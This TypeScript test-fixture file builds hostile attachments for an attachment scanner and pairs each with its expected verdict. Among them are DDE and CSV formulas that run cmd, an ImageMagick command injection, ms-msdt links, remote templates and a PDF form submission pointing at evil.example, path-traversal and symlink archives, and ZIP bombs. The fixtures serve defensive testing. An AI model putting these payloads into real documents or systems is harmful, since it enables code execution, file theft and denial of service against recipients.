/** Documents that could do something when they are opened, made by code: each with what is found in it, or why it is refused. */
import { deflateRawSync, deflateSync } from 'node:zlib';
import type { ActiveContent, RefusalReason } from '@parley/contracts/messages/attachments';
import { zip } from './hostile-files.ts';

export interface ActiveFile {
  about: string;
  name: string;
  bytes: Buffer;
  becomes: RefusalReason | ActiveContent[];
}

const types = (more = ''): [string, string] => [
  '[Content_Types].xml',
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${more}</Types>`,
];
const document = (body = 'Hello'): [string, string] => [
  'word/document.xml',
  `<w:document><w:body>${body}</w:body></w:document>`,
];
const docx = (...entries: [string, string][]): Buffer => zip(types(), document(), ...entries);
const workbook: [string, string] = [
  '[Content_Types].xml',
  '<?xml version="1.0"?><Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
];
const xlsx = (...entries: [string, string][]): Buffer => zip(workbook, ['xl/workbook.xml', '<workbook/>'], ...entries);
const odt = (...entries: [string, string][]): Buffer =>
  zip(
    ['mimetype', 'application/vnd.oasis.opendocument.text'],
    ['content.xml', '<office:document-content/>'],
    ...entries,
  );

const relation = (type: string, target: string, mode = 'External'): [string, string] => [
  'word/_rels/settings.xml.rels',
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
];

const pdf = (...objects: string[]): Buffer =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\n${objects.join('\n')}\ntrailer<</Root 1 0 R>>\n%%EOF`,
    'latin1',
  );
const objectStream = (
  objects: string,
  options = '/Filter/FlateDecode',
  pack = (text: string) => deflateSync(Buffer.from(text, 'latin1')),
): string => {
  const packed = pack(`9 0 ${objects}`).toString('latin1');
  return `8 0 obj<</Type/ObjStm/N 1/First 4${options}/Length ${packed.length}>>stream\n${packed}\nendstream endobj`;
};
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

/** A symbolic link: the entry's mode says so. */
function linked(): Buffer {
  const bytes = zip(['innocent', '/etc/passwd']);
  const at = bytes.indexOf(Buffer.from('504b0102', 'hex'));
  bytes[at + 5] = 3;
  bytes.writeUInt32LE(0xa1ff0000, at + 38);
  return bytes;
}

/** A ZIP of one entry that unpacks to far more than it is. */
function bomb(name: string, megabytes: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(megabytes * 1024 * 1024, ' '), { level: 9 });
  const plain = zip(types(), [name, packed.toString('latin1')]);
  // `zip` writes text as UTF-8: the packed bytes go where a stored entry of the same length stands.
  const stored = Buffer.from(packed.toString('latin1'));
  const at = plain.lastIndexOf(stored);
  const whole = Buffer.concat([plain.subarray(0, at), packed, plain.subarray(at + stored.length)]);
  const local = whole.lastIndexOf(Buffer.from('504b0304', 'hex'));
  whole.writeUInt16LE(8, local + 8);
  whole.writeUInt32LE(packed.length, local + 18);
  whole.writeUInt32LE(megabytes * 1024 * 1024, local + 22);
  const central = whole.lastIndexOf(Buffer.from('504b0102', 'hex'));
  whole.writeUInt16LE(8, central + 10);
  whole.writeUInt32LE(packed.length, central + 20);
  const end = whole.lastIndexOf(Buffer.from('504b0506', 'hex'));
  whole.writeUInt32LE(whole.readUInt32LE(end + 16) - (stored.length - packed.length), end + 16);
  return whole;
}

const text = (content: string, encoding: BufferEncoding = 'utf8'): Buffer => Buffer.from(content, encoding);

const programEndings =
  'js mjs jse bat cmd ps1 vb vbs wsf hta reg url lnk scf desktop mht mhtml jar sh app msi scr com pif cpl slk iqy command webloc';

const refusals: [about: string, name: string, bytes: Buffer, reason: RefusalReason][] = [
  ...programEndings
    .split(' ')
    .map((ending): [string, string, Buffer, RefusalReason] => [
      `text called .${ending}`,
      `update.${ending}`,
      text('harmless'),
      'program',
    ]),
  ['a script in capitals with blanks behind', 'update.BAT . ', text('@echo off'), 'program'],
  ['a script in UTF-16', 'update.js', text('\ufeffalert(1)', 'utf16le'), 'program'],
  ['an archive called .jar', 'tool.jar', zip(['a.txt', 'x']), 'program'],
  ['an invitation called .url', 'a.url', text('BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n'), 'program'],
  [
    'an ImageMagick drawing called .png',
    'a.png',
    text('push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 "|id"\npop graphic-context'),
    'damaged',
  ],
  ['an ImageMagick drawing called .txt', 'a.txt', text('push graphic-context\nviewbox 0 0 640 480\n'), 'unsafe'],
  ['a file name for ImageMagick', 'a.txt', text('caption:@/etc/passwd'), 'unsafe'],
  ['a playlist called .mp4', 'a.mp4', text('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n'), 'damaged'],
  ['a list for ffmpeg called .avi', 'a.avi', text('ffconcat version 1.0\nfile /etc/passwd\n'), 'damaged'],
  ['text called .docx', 'a.docx', text('Hello'), 'damaged'],
  ['the first bytes of a PDF', 'a.pdf', text('%PDF'), 'damaged'],
  ['the first line of a PDF', 'a.pdf', text('%PDF-1.7\n'), 'damaged'],
  ['the first bytes of a ZIP', 'a.docx', Buffer.from('504b0304', 'hex'), 'damaged'],
  ['a ZIP that was cut', 'a.zip', zip(['a.txt', 'x'.repeat(500)]).subarray(0, 300), 'damaged'],
  ['a document that was cut', 'a.docx', docx().subarray(0, -30), 'damaged'],
  ['a document with a part for macros', 'a.docx', docx(['word/vbaProject.bin', 'x']), 'unsafe'],
  [
    'a document with a renamed part for macros',
    'a.docx',
    zip(types('<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'), document(), [
      'word/x.bin',
      'x',
    ]),
    'unsafe',
  ],
  ['a spreadsheet with macros of 1992', 'a.xlsx', xlsx(['xl/macrosheets/sheet1.xml', '<x/>']), 'unsafe'],
  ['an OpenDocument with macros', 'a.odt', odt(['Basic/Standard/Module1.xml', '<script:module/>']), 'unsafe'],
  ['a path out of a document', 'a.docx', docx(['word/../../../../etc/cron.d/x', 'x']), 'unsafe'],
  ['a path out of an archive', 'a.zip', zip(['../evil.txt', 'x']), 'unsafe'],
  ['a path of Windows out of an archive', 'a.zip', zip(['a\\..\\..\\evil.txt', 'x']), 'unsafe'],
  ['a whole path', 'a.zip', zip(['/etc/passwd', 'x']), 'unsafe'],
  ['a drive', 'a.zip', zip(['C:evil.txt', 'x']), 'unsafe'],
  ['a symbolic link', 'a.zip', linked(), 'unsafe'],
];

const marked: [about: string, name: string, bytes: Buffer, found: ActiveContent[]][] = [
  ['a PDF', 'a.pdf', pdf(), []],
  ['a PDF with links', 'a.pdf', pdf('3 0 obj<</S/URI/URI(https://shop.example)>>endobj'), []],
  ['a PDF that opens at its third page', 'a.pdf', pdf('3 0 obj<</OpenAction[3 0 R/XYZ null null 0]>>endobj'), []],
  ['a PDF with a script', 'a.pdf', pdf(`3 0 obj${script}endobj`), ['script']],
  ['a PDF with a script name written in numbers', 'a.pdf', pdf('3 0 obj<</S/J#61v#61Script/JS(1)>>endobj'), ['script']],
  ['a PDF with a script in an object stream', 'a.pdf', pdf(objectStream(script)), ['script']],
  [
    'a PDF with such a name in an object stream',
    'a.pdf',
    pdf(objectStream('<</S/#4AavaScript>>').replace('ObjStm', 'Obj#53tm')),
    ['script'],
  ],
  [
    'a PDF with a deceptive object stream',
    'a.pdf',
    pdf(objectStream(script, '/X(stream\n)/Filter/FlateDecode')),
    ['unsearched'],
  ],
  [
    'a PDF with an encrypted object stream',
    'a.pdf',
    pdf(
      objectStream(script, '/Filter/FlateDecode', (plain) =>
        Buffer.from(Buffer.from(plain, 'latin1').map((byte) => byte ^ 0xa5)),
      ),
    ),
    ['unsearched'],
  ],
  ['a PDF with a bomb for an object stream', 'a.pdf', pdf(objectStream(' '.repeat(70 * 1024 * 1024))), ['unsearched']],
  ['a PDF with harmless object streams', 'a.pdf', pdf(objectStream('<</Type/Page>>')), []],
  ['a PDF that starts a program', 'a.pdf', pdf('3 0 obj<</S/Launch/F(cmd.exe)>>endobj'), ['program']],
  ['a PDF with a file in it', 'a.pdf', pdf('3 0 obj<</Type/EmbeddedFile>>endobj'), ['embedded_file']],
  ['a PDF that sends a form', 'a.pdf', pdf('3 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj'), ['external']],
  ['a document', 'a.docx', docx(), []],
  ['a document with links', 'a.docx', docx(relation('hyperlink', 'https://shop.example')), []],
  [
    'a document with a template of its own',
    'a.docx',
    docx(relation('attachedTemplate', 'template.dotx', 'Internal')),
    [],
  ],
  [
    'a document with a template from elsewhere',
    'a.docx',
    docx(relation('attachedTemplate', 'https://evil.example/t.dotm')),
    ['remote_template'],
  ],
  [
    'such a template, its letters as numbers',
    'a.docx',
    docx(relation('attachedTemplate', 'https://evil.example/t.dotm', '&#69;xternal')),
    ['remote_template'],
  ],
  [
    'a document that loads an object from elsewhere',
    'a.docx',
    docx(relation('oleObject', 'https://evil.example/x.html!')),
    ['external'],
  ],
  ['a document with a link that starts something', 'a.docx', docx(relation('hyperlink', 'ms-msdt:/id')), ['external']],
  ['a document with an embedded object', 'a.docx', docx(['word/embeddings/oleObject1.bin', 'x']), ['embedded_file']],
  ['a document with a program in it', 'a.docx', docx(['word/media/x.exe', 'x']), ['program']],
  ['a document with the numbers of a chart', 'a.docx', docx(['word/embeddings/Microsoft_Excel_Sheet1.xlsx', 'x']), []],
  [
    'a document with a DDE field',
    'a.docx',
    zip(types(), document('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>')),
    ['command'],
  ],
  [
    'a document with a DDE field in pieces',
    'a.docx',
    zip(
      types(),
      document(
        '<w:fldChar/><w:instrText>D</w:instrText></w:r><w:r><w:instrText xml:space="preserve">DEA</w:instrText><w:instrText>&#85;TO c:\\cmd</w:instrText>',
      ),
    ),
    ['command'],
  ],
  [
    'a document with a DDE field in nested QUOTE fields',
    'a.docx',
    zip(
      types(),
      document(
        '<w:fldChar/><w:fldChar/><w:instrText> QUOTE 68 68 </w:instrText><w:fldChar/><w:instrText> QUOTE &quot;69&quot; 0x41 85 84 79</w:instrText><w:fldChar/><w:instrText> c:\\cmd</w:instrText>',
      ),
    ),
    ['command'],
  ],
  [
    'a document that quotes letters by their numbers',
    'a.docx',
    zip(types(), document('<w:fldChar/><w:instrText> QUOTE 72 105 </w:instrText>')),
    [],
  ],
  ['a document that writes about DDE', 'a.docx', zip(types(), document('<w:t>DDEAUTO is old</w:t>')), []],
  [
    'a spreadsheet that runs a command',
    'a.xlsx',
    xlsx(['xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd"/></externalLink>']),
    ['command'],
  ],
  ['a table that runs a command', 'a.csv', text("a;b\n=cmd|' /C calc'!A0;2\n"), ['command']],
  ['a table with a sum', 'a.csv', text('a;b\n=1+2;-3|4\n'), []],
  ['an archive with a program', 'a.zip', zip(['setup.exe', 'x']), ['program']],
  ['an archive of texts', 'a.zip', zip(['a/b.txt', 'x'], ['a/..b/c..txt', 'x']), []],
  [
    'a mail with a program',
    'a.eml',
    text('From: a@b.example\r\nContent-Type: application/x; name="bill.exe"\r\n\r\nx'),
    ['program'],
  ],
  ['a document with a bomb for its text', 'a.docx', bomb('word/document.xml', 200), ['unsearched']],
];

export const activeFiles: readonly ActiveFile[] = [...refusals, ...marked].map(([about, name, bytes, becomes]) => ({
  about,
  name,
  bytes,
  becomes,
}));
